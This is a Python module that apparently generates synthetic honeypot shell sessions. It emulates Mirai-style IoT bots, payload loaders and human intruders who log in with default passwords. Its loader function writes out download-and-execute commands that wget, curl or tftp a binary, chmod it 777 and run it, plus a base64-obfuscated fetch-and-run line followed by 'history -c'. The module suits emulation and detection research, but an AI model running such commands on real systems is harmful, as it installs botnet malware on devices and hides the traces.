"""What is typed into a shell: the commands of bots, loaders and people, and what they fetch."""

from __future__ import annotations

import base64
import random

from . import catalogue as c
from .families import Family

Download = tuple[str, str]  # URL, SHA-256


def bot(family: Family, draw: random.Random) -> list[str]:
    """A bot has got in: it makes sure of a shell, shows the token, leaves."""
    if family.style == 3:
        return ["sh", "shell", "enable", "system", f"cat /proc/mounts; /bin/busybox {family.token}"]
    start = ["enable", "system", "shell", "sh"][draw.randrange(2) :]
    extra = ["cat /proc/cpuinfo | grep model"] if family.style == 2 and draw.random() < 0.6 else []
    return [*start, *extra, f"/bin/busybox {family.token}"]


def loader(family: Family, host: str, draw: random.Random) -> tuple[list[str], Download]:
    """A loader has got in: it brings the payload of one architecture and starts it."""
    number = draw.randrange(len(c.ARCHITECTURES))
    architecture, digest = c.ARCHITECTURES[number], family.payloads[number]
    url = family.url(host, architecture)
    token = family.token
    controller = draw.choice(family.controllers)
    if family.style == 0:
        lines = [
            "enable", "shell", "sh", f"/bin/busybox {token}",
            f"/bin/busybox wget {url} -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox {token}",
            f"./dvrHelper {controller}; /bin/busybox {token}",
        ]  # fmt: skip
    elif family.style == 1:
        name = draw.choice(("x", "bot", "z.sh"))
        lines = [
            "enable", "sh", f"/bin/busybox {token}", "cd /tmp || cd /var/run || cd /mnt",
            f"wget {url} -O {name} || curl -o {name} {url} || tftp -g -r {url.rsplit('/', 1)[1]} {host}",
            f"chmod 777 {name}; ./{name}; rm -rf {name}; /bin/busybox {token}",
        ]  # fmt: skip
    elif family.style == 2:
        typed = base64.b64encode(
            f"cd /tmp; wget -q {url} -O .{token.lower()}; sh .{token.lower()}".encode()
        ).decode()
        lines = ["sh", f"/bin/busybox {token}", f"echo {typed} | base64 -d | sh", "history -c"]
    else:
        lines = [
            "sh", "shell", f"cat /proc/mounts; /bin/busybox {token}",
            f"cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox {token}",
            f"/bin/busybox wget {url} -O .i; chmod 777 .i; ./.i {architecture}; /bin/busybox {token}; >.s",
        ]  # fmt: skip
    return lines, (url, digest)


def person(plays: Family | None, draw: random.Random) -> list[str]:
    """Somebody has got in with a common password and looks around; an imitator types a token it has read of."""
    if plays is not None:
        return ["sh", f"/bin/busybox {plays.token}"]
    return draw.choice(
        (
            ["uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m"],
            ["uname -s -v -n -r -m"],
            ["ls -la", "w", "crontab -l", "exit"],
            ["/bin/busybox MIRAI"],
        )
    )
